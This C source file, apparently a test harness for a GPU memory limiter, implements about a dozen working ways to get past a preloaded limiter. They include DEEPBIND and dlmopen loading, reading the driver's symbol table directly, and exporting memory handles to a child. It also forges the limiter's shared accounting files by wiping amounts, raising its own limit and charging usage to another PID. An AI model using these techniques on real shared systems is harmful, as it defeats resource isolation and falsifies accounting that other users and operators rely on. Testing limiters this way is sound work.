/* Takes GPU memory past a limiter that was preloaded, in one of the ways that a program has, and keeps it until a file appears
 * (or its folder goes):
 *
 *   evade plain GIB FILE            opens libcuda.so.1 as a program would: what everybody is compared with
 *   evade deepbind GIB FILE LIB     calls from a library opened with RTLD_DEEPBIND
 *   evade dlmopen GIB FILE LIB      calls from a library in a namespace of its own
 *   evade newer GIB FILE LIB        as plain, once it has looked up a function that is newer than the limiter in that library
 *   evade copy GIB FILE CUDA        finds the functions of a copy of the driver in that file's own symbol table
 *   evade leader GIB FILE CUDA      as copy, in a thread that outlives the first one
 *   evade flicker GIB FILE CUDA HOLD PAUSE blind|beat
 *                                   as copy, and gives all back after HOLD ms, again and again: PAUSE ms after it did, or
 *                                   after the next heartbeat that the daemon then writes into its slice
 *   evade hoard GIB FILE [CUDA]     exports physical memory, takes the limiter's mark off the descriptor, has a child import it
 *                                   and not map it, and releases its own handle; the child does it by a copy of the driver,
 *                                   without a context, if one is named
 *   evade forge GIB FILE            is charged, and then wipes out whatever looks like an amount of memory in its slice
 *   evade raise GIB FILE            writes a limit of its own into its slice before each allocation, until it has all it wants
 *   evade frame GIB PID             is charged, writes PID's process into its own place in its slice, and is gone
 *
 * LIB is this file too, built as a library that is linked to libcuda.so.1 (-DHELPER -shared). Says one line of JSON when it
 * holds the memory. */
#define _GNU_SOURCE
#include <dlfcn.h>
#include <elf.h>
#include <fcntl.h>
#include <link.h>
#include <pthread.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

struct cuda {
    int (*init)(unsigned);
    int (*retain)(void **, int);
    int (*set_current)(void *);
    int (*allocate)(uint64_t *, size_t);
};

enum { STEP = 256 << 20 };

/* 0, or what the driver answered. */
static int hold(const struct cuda *cuda, unsigned gib)
{
    void *context;
    uint64_t address;
    int result = cuda->init(0);
    if (!result)
        result = cuda->retain(&context, 0);
    if (!result)
        result = cuda->set_current(context);
    for (unsigned step = 0; !result && step < gib * 4; step++)
        result = cuda->allocate(&address, STEP);
    return result;
}

#ifdef HELPER

int cuInit(unsigned);
int cuDevicePrimaryCtxRetain(void **, int);
int cuCtxSetCurrent(void *);
int cuMemAlloc_v2(uint64_t *, size_t);

int hold_from_here(unsigned gib)
{
    struct cuda cuda = {cuInit, cuDevicePrimaryCtxRetain, cuCtxSetCurrent, cuMemAlloc_v2};
    return hold(&cuda, gib);
}

/* No driver has it yet. */
int cuMemAlloc_v3(uint64_t *address, size_t size)
{
    return cuMemAlloc_v2(address, size);
}

#else

static void *must(void *found, const char *what)
{
    if (!found) {
        const char *error = dlerror();
        fprintf(stderr, "evade: %s: %s\n", what, error ? error : "not found");
        exit(1);
    }
    return found;
}

/* The functions as `find` finds them. */
static struct cuda all(void *library, void *(*find)(void *, const char *))
{
    return (struct cuda){
        must(find(library, "cuInit"), "cuInit"),
        must(find(library, "cuDevicePrimaryCtxRetain"), "cuDevicePrimaryCtxRetain"),
        must(find(library, "cuCtxSetCurrent"), "cuCtxSetCurrent"),
        must(find(library, "cuMemAlloc_v2"), "cuMemAlloc_v2"),
    };
}

/* By reading the library's symbol table: nobody is asked. */
static void *in_table(void *library, const char *name)
{
    struct link_map *map;
    must(dlinfo(library, RTLD_DI_LINKMAP, &map) ? NULL : map, "dlinfo");
    const ElfW(Sym) *symbols = NULL;
    const char *names = NULL;
    for (const ElfW(Dyn) *entry = map->l_ld; entry->d_tag != DT_NULL; entry++) {
        if (entry->d_tag == DT_SYMTAB)
            symbols = (const void *)entry->d_un.d_ptr;
        if (entry->d_tag == DT_STRTAB)
            names = (const void *)entry->d_un.d_ptr;
    }
    must((void *)symbols, "DT_SYMTAB");
    /* The string table follows the symbols in every library that a linker of today makes. */
    for (const ElfW(Sym) *symbol = symbols; (const void *)symbol < (const void *)names; symbol++)
        if (symbol->st_shndx != SHN_UNDEF && strcmp(names + symbol->st_name, name) == 0)
            return (void *)(map->l_addr + symbol->st_value);
    return NULL;
}

static int by_library(void *library, unsigned gib)
{
    must(library, "LIB");
    int (*hold_from_there)(unsigned) = must(dlsym(library, "hold_from_here"), "hold_from_here");
    return hold_from_there(gib);
}

/* One of the slice's files, mapped. */
static uint64_t *mapped(const char *name, size_t *words, int access_mode)
{
    char path[4096];
    struct stat status;
    const char *mount = "/run/divvy-job/slice";
    const char *folder = access(mount, F_OK) == 0 ? mount : must(getenv("DIVVY_SLICE"), "DIVVY_SLICE");
    snprintf(path, sizeof path, "%s/%s", folder, name);
    int file = open(path, access_mode);
    if (file < 0 || fstat(file, &status) != 0) {
        perror(path);
        exit(1);
    }
    *words = (size_t)status.st_size / 8;
    int protection = access_mode == O_RDWR ? PROT_READ | PROT_WRITE : PROT_READ;
    void *map = mmap(NULL, (size_t)status.st_size, protection, MAP_SHARED, file, 0);
    return must(map == MAP_FAILED ? NULL : map, "mmap");
}

/* Amounts of device memory are whole MiB, and nothing else in the file is; the bits above 48 are not part of an amount. */
static void wipe_amounts(void)
{
    size_t words;
    uint64_t *file = mapped("slots", &words, O_RDWR);
    for (size_t at = 8; at < words; at++) {
        uint64_t amount = file[at] & 0xffffffffffffu;
        if (amount >= 64u << 20 && amount % (1 << 20) == 0)
            __atomic_store_n(&file[at], 0, __ATOMIC_SEQ_CST);
    }
}

/* The limit on the first GPU of a slice lies at byte 272 of `control`. What is put right meanwhile is forged again. */
static int raise_and_hold(const struct cuda *cuda, unsigned gib)
{
    enum { LIMIT = 272 / 8, OUT_OF_MEMORY = 2 };
    size_t words;
    uint64_t *control = mapped("control", &words, O_RDWR);
    void *context;
    uint64_t address;
    int result = cuda->init(0);
    if (!result)
        result = cuda->retain(&context, 0);
    if (!result)
        result = cuda->set_current(context);
    for (unsigned step = 0; !result && step < gib * 4;) {
        __atomic_store_n(&control[LIMIT], (uint64_t)(gib + 8) << 30, __ATOMIC_SEQ_CST);
        result = cuda->allocate(&address, STEP);
        if (!result)
            step++;
        else if (result == OUT_OF_MEMORY)
            result = 0;
    }
    return result;
}

/* The heartbeat lies at byte 136 of `control`. Ends when the file is there. */
static int flicker(void *driver, const struct cuda *cuda, unsigned gib, char **words)
{
    enum { HEARTBEAT = 136 / 8 };
    size_t count;
    int (*reset)(int) = must(in_table(driver, "cuDevicePrimaryCtxReset_v2"), "cuDevicePrimaryCtxReset_v2");
    useconds_t hold_for = (useconds_t)atoi(words[5]) * 1000, pause_for = (useconds_t)atoi(words[6]) * 1000;
    uint64_t *control = strcmp(words[7], "beat") == 0 ? mapped("control", &count, O_RDONLY) : NULL;
    int result = 0;
    while (!result && access(words[3], F_OK) != 0) {
        if (control)
            for (uint64_t beat = control[HEARTBEAT]; __atomic_load_n(&control[HEARTBEAT], __ATOMIC_SEQ_CST) == beat;)
                usleep(1000);
        usleep(pause_for);
        result = hold(cuda, gib);
        usleep(hold_for);
        if (!result)
            result = reset(0);
    }
    return result;
}

/* As in cuda.h. */
struct location {
    int type, id;
};
struct properties {
    int type, handle_types;
    struct location location;
    void *win32;
    uint64_t flags;
};

/* Passes a descriptor on with one byte; -1 sends none. Receives one where `descriptor` is null. */
static int pass(int socket, const int *descriptor)
{
    char byte = 0;
    union {
        struct cmsghdr header;
        char bytes[CMSG_SPACE(sizeof(int))];
    } control = {0};
    struct iovec data = {&byte, 1};
    struct msghdr message = {.msg_iov = &data, .msg_iovlen = 1, .msg_control = control.bytes, .msg_controllen = sizeof control.bytes};
    if (!descriptor) {
        int received = -1;
        if (recvmsg(socket, &message, 0) > 0 && CMSG_FIRSTHDR(&message))
            memcpy(&received, CMSG_DATA(CMSG_FIRSTHDR(&message)), sizeof received);
        return received;
    }
    struct cmsghdr *header = CMSG_FIRSTHDR(&message);
    *header = (struct cmsghdr){.cmsg_level = SOL_SOCKET, .cmsg_type = SCM_RIGHTS, .cmsg_len = CMSG_LEN(sizeof(int))};
    memcpy(CMSG_DATA(header), descriptor, sizeof *descriptor);
    return sendmsg(socket, &message, 0) == 1 ? 0 : -1;
}

/* Ends with the driver's first error, or with all that is wanted. */
static int hoard(void *driver, const struct cuda *cuda, unsigned gib, const char *copy)
{
    int (*create)(uint64_t *, size_t, const struct properties *, uint64_t) = must(dlsym(driver, "cuMemCreate"), "cuMemCreate");
    int (*release)(uint64_t) = must(dlsym(driver, "cuMemRelease"), "cuMemRelease");
    int (*export)(int *, uint64_t, int, uint64_t) = must(dlsym(driver, "cuMemExportToShareableHandle"), "export");
    int (*import)(uint64_t *, void *, int) = must(dlsym(driver, "cuMemImportFromShareableHandle"), "import");
    int sockets[2], descriptor, result;
    uint64_t handle;
    socketpair(AF_UNIX, SOCK_SEQPACKET, 0, sockets);
    if (fork() == 0) {
        close(sockets[0]);
        if (copy) {
            void *own = must(dlopen(copy, RTLD_NOW | RTLD_LOCAL), copy);
            int (*init)(unsigned) = must(in_table(own, "cuInit"), "cuInit");
            import = must(in_table(own, "cuMemImportFromShareableHandle"), "import");
            result = init(0);
        } else {
            result = hold(cuda, 0);
        }
        while ((descriptor = pass(sockets[1], NULL)) >= 0) {
            if (!result)
                result = import(&handle, (void *)(intptr_t)descriptor, 1);
            close(descriptor);
            if (write(sockets[1], &result, sizeof result) < 0)
                break;
        }
        exit(0);
    }
    close(sockets[1]);
    result = hold(cuda, 0);
    struct properties properties = {.type = 1, .handle_types = 1, .location = {1, 0}};
    struct flock all = {.l_type = F_UNLCK, .l_whence = SEEK_SET};
    for (unsigned step = 0; !result && step < gib * 4; step++) {
        if ((result = create(&handle, STEP, &properties, 0)) != 0)
            break;
        result = export(&descriptor, handle, 1, 0);
        if (!result && (fcntl(descriptor, F_OFD_SETLK, &all) != 0 || pass(sockets[0], &descriptor) != 0 ||
                        read(sockets[0], &result, sizeof result) < 0))
            perror("hoard");
        close(descriptor);
        release(handle);
    }
    return result;
}

static uint64_t start_time(int pid)
{
    char path[64], line[1024] = "";
    snprintf(path, sizeof path, "/proc/%d/stat", pid);
    FILE *file = must(fopen(path, "r"), path);
    must(fgets(line, sizeof line, file), path);
    fclose(file);
    /* Field 22; the second ends with the line's last bracket. */
    char *field = must(strrchr(line, ')'), path);
    for (int number = 2; number < 22; number++)
        field = must(strchr(field + 1, ' '), path);
    return strtoull(field, NULL, 10);
}

static void frame(int other)
{
    size_t words;
    uint64_t *file = mapped("slots", &words, O_RDWR);
    uint64_t mine = start_time(getpid());
    for (size_t at = 0; at + 1 < words; at++)
        if ((uint32_t)file[at] == (uint32_t)getpid() && file[at + 1] == mine) {
            file[at] = (uint64_t)(uint32_t)other;
            file[at + 1] = start_time(other);
            return;
        }
    fprintf(stderr, "evade: it has no place in its slice\n");
    exit(1);
}

/* Until the file is there, or nobody can make it any more. */
static void wait_for(const char *file)
{
    char folder[4096];
    snprintf(folder, sizeof folder, "%s", file);
    char *end = strrchr(folder, '/');
    if (end)
        *end = 0;
    while (access(file, F_OK) != 0 && access(folder, F_OK) == 0)
        usleep(10000);
}

/* Ends the process. */
static void *evade(void *arguments)
{
    char **words = arguments;
    const char *way = words[1];
    unsigned gib = (unsigned)atoi(words[2]);
    const char *library = words[4] ? words[4] : "libcuda.so.1";
    int result;
    if (strcmp(way, "newer") == 0) {
        void *newer = must(dlopen(library, RTLD_NOW | RTLD_LOCAL), library);
        must(dlsym(newer, "cuMemAlloc_v3"), "cuMemAlloc_v3");
        library = "libcuda.so.1";
    }
    if (strcmp(way, "deepbind") == 0) {
        result = by_library(dlopen(library, RTLD_NOW | RTLD_LOCAL | RTLD_DEEPBIND), gib);
    } else if (strcmp(way, "dlmopen") == 0) {
        result = by_library(dlmopen(LM_ID_NEWLM, library, RTLD_NOW), gib);
    } else {
        int is_copy = strcmp(way, "copy") == 0 || strcmp(way, "leader") == 0 || strcmp(way, "flicker") == 0;
        int is_hoard = strcmp(way, "hoard") == 0;
        const char *name = is_hoard ? "libcuda.so.1" : library;
        void *driver = must(dlopen(name, RTLD_NOW | RTLD_LOCAL), name);
        struct cuda cuda = all(driver, is_copy ? in_table : dlsym);
        if (strcmp(way, "flicker") == 0)
            result = flicker(driver, &cuda, gib, words);
        else if (is_hoard)
            result = hoard(driver, &cuda, gib, words[4]);
        else
            result = strcmp(way, "raise") == 0 ? raise_and_hold(&cuda, gib) : hold(&cuda, gib);
    }
    if (strcmp(way, "forge") == 0)
        wipe_amounts();
    if (strcmp(way, "frame") == 0)
        frame(atoi(words[3]));
    printf("{\"pid\":%d,\"result\":%d}\n", (int)getpid(), result);
    fflush(stdout);
    if (strcmp(way, "frame") == 0)
        raise(SIGKILL);
    wait_for(words[3]);
    exit(0);
}

int main(int count, char **words)
{
    if (count < 4) {
        fprintf(stderr, "usage: evade WAY GIB FILE [LIB]\n");
        return 2;
    }
    pthread_t thread;
    if (strcmp(words[1], "leader") != 0)
        evade(words);
    if (pthread_create(&thread, NULL, evade, words) != 0) {
        perror("pthread_create");
        return 1;
    }
    pthread_exit(NULL);
}

#endif
